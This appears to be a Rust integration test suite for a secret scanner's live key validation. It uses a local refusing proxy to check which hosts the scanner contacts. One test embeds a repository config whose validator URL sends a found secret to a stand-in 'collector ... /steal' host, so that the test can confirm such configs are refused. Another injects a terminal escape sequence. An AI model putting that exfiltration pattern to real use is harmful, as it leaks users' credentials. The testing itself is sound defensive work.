//! `--validate` through the real binary, with no test reaching the internet: a tiny recording
//! proxy on localhost (HTTPS_PROXY) sees each CONNECT and refuses it, so the binary's requests
//! are observed without leaving the machine; the NO_PROXY case runs the binary in a network
//! namespace of its own, where nothing can leave at all.

mod common_hostile;

use std::io::{BufRead, BufReader, Write};
use std::net::TcpListener;
use std::path::Path;
use std::sync::{Arc, Mutex};
use std::time::Duration;

use common_hostile::{findings, generic_secret, keyhound, report, run, write, Run};
use keyhound::rules::templates::{expand, ExampleRng};

/// A proxy that records the first line of every connection and answers 403.
struct Proxy {
    url: String,
    lines: Arc<Mutex<Vec<String>>>,
}

impl Proxy {
    fn start() -> Proxy {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let url = format!("http://127.0.0.1:{}", listener.local_addr().unwrap().port());
        let lines = Arc::new(Mutex::new(Vec::new()));
        let log = Arc::clone(&lines);
        std::thread::spawn(move || {
            for stream in listener.incoming() {
                let Ok(mut stream) = stream else { continue };
                let _ = stream.set_read_timeout(Some(Duration::from_secs(5)));
                // The request head is read in full before answering: closing with unread
                // bytes would reset the connection before the client reads the 403.
                let mut reader = BufReader::new(&stream);
                let mut line = String::new();
                let _ = reader.read_line(&mut line);
                log.lock().unwrap().push(line.trim_end().to_string());
                let mut header = String::new();
                loop {
                    header.clear();
                    match reader.read_line(&mut header) {
                        Ok(n) if n > 0 && !header.trim().is_empty() => {}
                        _ => break,
                    }
                }
                let _ = stream.write_all(b"HTTP/1.1 403 Forbidden\r\nContent-Length: 0\r\n\r\n");
            }
        });
        Proxy { url, lines }
    }

    fn lines(&self) -> Vec<String> {
        self.lines.lock().unwrap().clone()
    }
}

fn github_token(seed: u64) -> String {
    expand("@{github:ghp}", &mut ExampleRng::new(seed)).unwrap()
}

/// A directory with one GitHub token written in two files (one secret, two findings).
fn repo_with_token() -> (tempfile::TempDir, String) {
    let dir = tempfile::tempdir().unwrap();
    let token = github_token(7);
    write(dir.path(), "a.env", format!("GITHUB_TOKEN={token}\n"));
    write(dir.path(), "b.env", format!("GH={token}\n"));
    (dir, token)
}

/// `keyhound ARGS` in `dir` with the proxy variables set to `proxy` and nothing else.
fn scan(dir: &Path, proxy: &Proxy, args: &[&str]) -> Run {
    let mut cmd = keyhound();
    for var in [
        "HTTPS_PROXY",
        "https_proxy",
        "ALL_PROXY",
        "all_proxy",
        "NO_PROXY",
        "no_proxy",
        "HTTP_PROXY",
        "http_proxy",
        "KEYHOUND_VALIDATE",
    ] {
        cmd.env_remove(var);
    }
    run(cmd
        .current_dir(dir)
        .env("HTTPS_PROXY", &proxy.url)
        .args(args))
}

#[test]
fn validate_sends_one_connect_to_the_providers_host_and_reports_unknown() {
    let (dir, token) = repo_with_token();
    let proxy = Proxy::start();
    let out = scan(
        dir.path(),
        &proxy,
        &["dir", ".", "--validate", "--format", "json"],
    );
    assert_eq!(out.code, 1, "{}", out.stderr);
    assert_eq!(proxy.lines(), ["CONNECT api.github.com:443 HTTP/1.1"]);
    let found = findings(&out);
    assert_eq!(found.len(), 2);
    for f in &found {
        assert_eq!(f["validation"]["status"], "unknown", "{f}");
        let reason = f["validation"]["reason"].as_str().unwrap();
        assert!(reason.contains("proxy"), "{reason}");
    }
    common_hostile::assert_no_raw(&out, &[&token]);
    // The same run in SARIF and GitHub annotations carries the verdict too.
    let sarif = scan(
        dir.path(),
        &proxy,
        &["dir", ".", "--validate", "--format", "sarif"],
    );
    let doc = report(&sarif);
    let result = &doc["runs"][0]["results"][0];
    assert_eq!(result["properties"]["validation"], "unknown", "{result}");
    let github = scan(
        dir.path(),
        &proxy,
        &["dir", ".", "--validate", "--format", "github"],
    );
    assert!(
        github.stdout.contains("unknown%3A ") || github.stdout.contains("unknown: "),
        "{}",
        github.stdout
    );
    let human = scan(
        dir.path(),
        &proxy,
        &[
            "dir",
            ".",
            "--validate",
            "--format",
            "human",
            "--color",
            "never",
        ],
    );
    assert!(
        human.stdout.contains("validation: unknown"),
        "{}",
        human.stdout
    );
    let gitlab = scan(
        dir.path(),
        &proxy,
        &["dir", ".", "--validate", "--format", "gitlab"],
    );
    let doc = report(&gitlab);
    let description = doc["vulnerabilities"][0]["description"].as_str().unwrap();
    assert!(
        description.contains("Validation (`--validate`): `unknown: "),
        "{description}"
    );
}

#[test]
fn without_validate_no_connection_is_made() {
    let (dir, _) = repo_with_token();
    let proxy = Proxy::start();
    for format in ["json", "sarif", "human"] {
        let out = scan(dir.path(), &proxy, &["dir", ".", "--format", format]);
        assert_eq!(out.code, 1, "{}", out.stderr);
    }
    let out = scan(dir.path(), &proxy, &["dir", ".", "--format", "json"]);
    assert!(findings(&out).iter().all(|f| f.get("validation").is_none()));
    assert!(proxy.lines().is_empty(), "{:?}", proxy.lines());
}

#[test]
fn the_environment_turns_validation_on_as_the_flag_does() {
    let (dir, _) = repo_with_token();
    let proxy = Proxy::start();
    let mut cmd = keyhound();
    cmd.env_remove("NO_PROXY").env_remove("no_proxy");
    let out = run(cmd
        .current_dir(dir.path())
        .env("HTTPS_PROXY", &proxy.url)
        .env("KEYHOUND_VALIDATE", "1")
        .args(["dir", ".", "--format", "json"]));
    assert_eq!(out.code, 1, "{}", out.stderr);
    assert_eq!(proxy.lines().len(), 1);
}

#[test]
fn no_proxy_is_respected() {
    let (dir, _) = repo_with_token();
    // An unrelated NO_PROXY entry leaves the provider's host proxied.
    let proxy = Proxy::start();
    let mut cmd = keyhound();
    let out = run(cmd
        .current_dir(dir.path())
        .env("HTTPS_PROXY", &proxy.url)
        .env("NO_PROXY", "localhost,example.com,hub.com")
        .args(["dir", ".", "--validate", "--format", "json"]));
    assert_eq!(out.code, 1, "{}", out.stderr);
    assert_eq!(proxy.lines().len(), 1);
    // NO_PROXY naming the host sends it direct: run in a network namespace of its own, so the
    // direct attempt cannot leave the machine (skipped where namespaces are not allowed).
    let unshare = std::process::Command::new("unshare")
        .args(["-n", "true"])
        .status();
    if !unshare.is_ok_and(|s| s.success()) {
        eprintln!("skipped: no network namespaces here");
        return;
    }
    let bin = assert_cmd::cargo::cargo_bin("keyhound");
    let output = std::process::Command::new("unshare")
        .current_dir(dir.path())
        .env("HTTPS_PROXY", &proxy.url)
        .env("NO_PROXY", "github.com")
        .env_remove("no_proxy")
        .arg("-n")
        .arg(bin)
        .args(["dir", ".", "--validate", "--format", "json"])
        .output()
        .unwrap();
    let out = Run::from(output);
    assert_eq!(out.code, 1, "{}", out.stderr);
    let reason = findings(&out)[0]["validation"]["reason"]
        .as_str()
        .unwrap()
        .to_string();
    assert!(
        !reason.contains("proxy"),
        "went direct, not through the proxy: {reason}"
    );
    assert_eq!(proxy.lines().len(), 1, "no second CONNECT");
}

#[test]
fn a_repository_config_cannot_declare_a_validator() {
    let (dir, _) = repo_with_token();
    let config = r#"
[[rule]]
id = "demo-token"
name = "Demo token"
provider = "Demo"
description = "A made-up token format for tests."
keywords = ["hdemo_"]
regex = '\b(?P<secret>hdemo_[0-9A-Za-z]{32})\b'
severity = "critical"
confidence = "high"
revoke_url = "https://example.invalid/revoke"

[rule.validate]
docs = "https://example.invalid/docs"
url = "https://collector.example.invalid/steal?key={secret}"
"#;
    write(dir.path(), "keyhound.toml", config);
    let proxy = Proxy::start();
    for args in [&["dir", "."][..], &["dir", ".", "--validate"][..]] {
        let out = scan(dir.path(), &proxy, args);
        assert_eq!(out.code, 2, "{}", out.stdout);
        assert!(
            out.stderr.contains("cannot declare validators"),
            "{}",
            out.stderr
        );
    }
    assert!(proxy.lines().is_empty());
    // A config named on the command line may declare validators for its own rules.
    let trusted = tempfile::tempdir().unwrap();
    write(trusted.path(), "trusted.toml", config);
    std::fs::remove_file(dir.path().join("keyhound.toml")).unwrap();
    let token = common_hostile::token("hdemo_", 3);
    write(dir.path(), "c.env", format!("DEMO={token}\n"));
    let config_path = trusted.path().join("trusted.toml");
    let out = scan(
        dir.path(),
        &proxy,
        &[
            "dir",
            ".",
            "--validate",
            "--format",
            "json",
            "--config",
            config_path.to_str().unwrap(),
        ],
    );
    assert_eq!(out.code, 1, "{}", out.stderr);
    let mut lines = proxy.lines();
    lines.sort();
    assert_eq!(
        lines,
        [
            "CONNECT api.github.com:443 HTTP/1.1",
            "CONNECT collector.example.invalid:443 HTTP/1.1"
        ]
    );
}

#[test]
fn generic_findings_are_never_sent() {
    let dir = tempfile::tempdir().unwrap();
    write(
        dir.path(),
        "settings.env",
        format!("API_KEY={}\n", generic_secret(11)),
    );
    let proxy = Proxy::start();
    let out = scan(
        dir.path(),
        &proxy,
        &["dir", ".", "--validate", "--format", "json"],
    );
    assert_eq!(out.code, 1, "{}", out.stderr);
    let found = findings(&out);
    assert!(!found.is_empty());
    for f in &found {
        assert!(f["rule"].as_str().unwrap().starts_with("generic"), "{f}");
        assert_eq!(f["validation"]["status"], "unknown");
        assert!(f["validation"]["reason"]
            .as_str()
            .unwrap()
            .contains("generic"));
    }
    assert!(proxy.lines().is_empty(), "{:?}", proxy.lines());
}

#[test]
fn only_live_and_fail_on_live_fail_only_on_live_keys() {
    let (dir, _) = repo_with_token();
    let proxy = Proxy::start();
    // The proxy refuses, so the key is `unknown`: not live, so not reported, exit 0.
    let out = scan(
        dir.path(),
        &proxy,
        &["dir", ".", "--validate", "--only-live", "--format", "json"],
    );
    assert_eq!(out.code, 0, "{}", out.stderr);
    assert!(findings(&out).is_empty());
    let out = scan(
        dir.path(),
        &proxy,
        &[
            "dir",
            ".",
            "--validate",
            "--validation-filter",
            "unknown,invalid",
            "--format",
            "json",
        ],
    );
    assert_eq!(out.code, 1);
    assert_eq!(findings(&out).len(), 2);
    // Filters and --fail-on live without --validate are refused, before any scan.
    for args in [
        &["dir", ".", "--only-live"][..],
        &["dir", ".", "--validation-filter", "live"][..],
        &["ci", ".", "--fail-on", "live"][..],
    ] {
        let out = scan(dir.path(), &proxy, args);
        assert_eq!(out.code, 2, "{args:?}: {}", out.stderr);
        assert!(out.stderr.contains("--validate"), "{}", out.stderr);
    }
    // Validation is refused where it has no use.
    let out = scan(dir.path(), &proxy, &["baseline", "dir", ".", "--validate"]);
    assert_eq!(out.code, 2);
    assert!(proxy.lines().len() == 2, "{:?}", proxy.lines());
}

#[test]
fn an_aws_key_pair_is_signed_for_sts_and_a_lone_secret_is_not_sent() {
    let dir = tempfile::tempdir().unwrap();
    let mut rng = ExampleRng::new(5);
    let id = expand("AKIA@{rand:upper:16}", &mut rng).unwrap();
    let secret = expand("@{rand:base64:40}", &mut rng)
        .unwrap()
        .replace(['+', '/', '='], "A");
    write(
        dir.path(),
        "credentials",
        format!("[default]\naws_access_key_id = {id}\naws_secret_access_key = {secret}\n"),
    );
    let other = expand("@{rand:base64:40}", &mut rng)
        .unwrap()
        .replace(['+', '/', '='], "B");
    write(
        dir.path(),
        "lone.env",
        format!("AWS_SECRET_ACCESS_KEY={other}\n"),
    );
    let proxy = Proxy::start();
    let out = scan(
        dir.path(),
        &proxy,
        &["dir", ".", "--validate", "--format", "json"],
    );
    assert_eq!(out.code, 1, "{}", out.stderr);
    assert_eq!(proxy.lines(), ["CONNECT sts.amazonaws.com:443 HTTP/1.1"]);
    let found = findings(&out);
    let lone = found
        .iter()
        .find(|f| f["location"]["path"] == "lone.env")
        .expect("the lone secret is reported");
    let reason = lone["validation"]["reason"].as_str().unwrap();
    assert!(
        reason.contains("no aws-access-key-id found beside it"),
        "{reason}"
    );
    common_hostile::assert_no_raw(&out, &[&secret, &other]);
}

#[test]
fn the_cache_answers_without_a_request_and_live_keys_lead_with_revoke_now() {
    let (dir, token) = repo_with_token();
    let cache = tempfile::tempdir().unwrap();
    let now = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap()
        .as_secs();
    let fingerprint = common_hostile::sha256_hex(&token);
    write(
        cache.path(),
        &format!("{fingerprint}.json"),
        format!(r#"{{"live":true,"identity":"login octo\u001b[31mcat","checked":{now}}}"#),
    );
    let proxy = Proxy::start();
    let cache_dir = cache.path().to_str().unwrap();
    let args = [
        "dir",
        ".",
        "--validate",
        "--validation-cache",
        cache_dir,
        "--only-live",
    ];
    let out = scan(
        dir.path(),
        &proxy,
        &[&args[..], &["--format", "json"]].concat(),
    );
    assert_eq!(out.code, 1, "{}", out.stderr);
    assert!(proxy.lines().is_empty(), "answered from the cache");
    let found = findings(&out);
    assert_eq!(found.len(), 2);
    for f in &found {
        assert_eq!(f["validation"]["status"], "live");
        let summary = f["remediation"]["summary"].as_str().unwrap();
        assert!(summary.starts_with("LIVE: revoke now"), "{summary}");
    }
    // Human output: the provider's text is escaped, and the summary counts verdicts.
    let human = scan(
        dir.path(),
        &proxy,
        &[&args[..], &["--color", "never"]].concat(),
    );
    assert!(
        human
            .stdout
            .contains("validation: live (login octo\\x1b[31mcat)"),
        "{}",
        human.stdout
    );
    assert!(!human.stdout.contains('\u{1b}'));
    assert!(
        human.stderr.contains("validated: 2 live"),
        "{}",
        human.stderr
    );
    // A stale entry is asked again; an invalid one says the key is already dead.
    write(
        cache.path(),
        &format!("{fingerprint}.json"),
        format!(r#"{{"live":false,"identity":null,"checked":{now}}}"#),
    );
    let out = scan(
        dir.path(),
        &proxy,
        &[
            "dir",
            ".",
            "--validate",
            "--validation-cache",
            cache_dir,
            "--format",
            "json",
        ],
    );
    let summary = findings(&out)[0]["remediation"]["summary"]
        .as_str()
        .unwrap()
        .to_string();
    assert!(summary.starts_with("Already dead"), "{summary}");
    let out = scan(
        dir.path(),
        &proxy,
        &[
            "dir",
            ".",
            "--validate",
            "--validation-cache",
            cache_dir,
            "--validation-ttl",
            "0",
            "--format",
            "json",
        ],
    );
    assert_eq!(out.code, 1, "{}", out.stderr);
    assert_eq!(proxy.lines().len(), 1, "a stale entry is asked again");
}

#[test]
fn a_scan_without_validate_creates_no_network_socket() {
    // strace shows every socket the process (and its threads) creates; skipped without it.
    let Ok(probe) = std::process::Command::new("strace").arg("-V").output() else {
        eprintln!("skipped: no strace");
        return;
    };
    if !probe.status.success() {
        return;
    }
    let (dir, _) = repo_with_token();
    let bin = assert_cmd::cargo::cargo_bin("keyhound");
    let trace = |validate: bool| {
        let log = dir.path().join(format!("strace-{validate}.log"));
        let mut cmd = std::process::Command::new("strace");
        cmd.current_dir(dir.path())
            .env("HTTPS_PROXY", "http://127.0.0.1:9")
            .args(["-f", "-e", "trace=socket", "-o"])
            .arg(&log)
            .arg(&bin)
            .args(["dir", "a.env", "b.env", "--format", "json"]);
        if validate {
            cmd.arg("--validate");
        }
        let status = cmd.output().unwrap().status;
        assert_eq!(status.code(), Some(1));
        std::fs::read_to_string(log).unwrap()
    };
    let without = trace(false);
    assert!(!without.contains("AF_INET"), "{without}");
    // The same check sees the socket --validate opens (to the proxy).
    assert!(trace(true).contains("AF_INET"));
}

#[test]
fn ci_fails_on_live_keys_only_and_merge_validates_shards_that_hold_secrets() {
    let (dir, _) = repo_with_token();
    let git = |args: &[&str]| common_hostile::git(dir.path(), args);
    git(&["init", "-q", "-b", "main"]);
    git(&[
        "-c",
        "user.name=t",
        "-c",
        "user.email=t@example.invalid",
        "add",
        ".",
    ]);
    git(&[
        "-c",
        "user.name=t",
        "-c",
        "user.email=t@example.invalid",
        "commit",
        "-qm",
        "keys",
    ]);
    let run_dir = tempfile::tempdir().unwrap();
    write(run_dir.path(), "event.json", "{}");
    let proxy = Proxy::start();
    let ci = |fail_on: &str| {
        let mut cmd = keyhound();
        for var in [
            "NO_PROXY",
            "no_proxy",
            "GITHUB_OUTPUT",
            "GITHUB_STEP_SUMMARY",
        ] {
            cmd.env_remove(var);
        }
        run(cmd
            .current_dir(run_dir.path())
            .env("HTTPS_PROXY", &proxy.url)
            .env("GITHUB_ACTIONS", "true")
            .env("GITHUB_EVENT_NAME", "schedule")
            .env("GITHUB_EVENT_PATH", run_dir.path().join("event.json"))
            .env("GITHUB_WORKSPACE", dir.path())
            .args(["ci", "--validate", "--format", "json", "--fail-on", fail_on]))
    };
    // The key could not be confirmed live (the proxy refuses): reported, but not failing.
    let out = ci("live");
    assert_eq!(out.code, 0, "{}", out.stderr);
    let found = findings(&out);
    assert_eq!(found.len(), 1, "one secret, folded: {}", out.stdout);
    assert_eq!(found[0]["validation"]["status"], "unknown");
    assert_eq!(ci("low").code, 1);
    assert_eq!(proxy.lines().len(), 2, "one request per run");

    // A shard written with --show-secrets can be validated when merged; one without cannot.
    let shard = run_dir.path().join("shard.json");
    let out = scan(
        dir.path(),
        &proxy,
        &[
            "dir",
            ".",
            "--show-secrets",
            "--format",
            "json",
            "--output",
            shard.to_str().unwrap(),
        ],
    );
    assert_eq!(out.code, 1, "{}", out.stderr);
    let merged = scan(
        run_dir.path(),
        &proxy,
        &["merge", "shard.json", "--validate", "--format", "json"],
    );
    assert_eq!(merged.code, 1, "{}", merged.stderr);
    assert_eq!(proxy.lines().len(), 3);
    assert!(
        findings(&merged)[0]["secret"].get("value").is_none(),
        "not shown unless asked"
    );
    let plain = run_dir.path().join("plain.json");
    scan(
        dir.path(),
        &proxy,
        &[
            "dir",
            ".",
            "--format",
            "json",
            "--output",
            plain.to_str().unwrap(),
        ],
    );
    let merged = scan(
        run_dir.path(),
        &proxy,
        &["merge", "plain.json", "--validate", "--format", "json"],
    );
    let reason = findings(&merged)[0]["validation"]["reason"]
        .as_str()
        .unwrap()
        .to_string();
    assert!(reason.contains("not in this report"), "{reason}");
    assert_eq!(proxy.lines().len(), 3, "nothing to send");
}
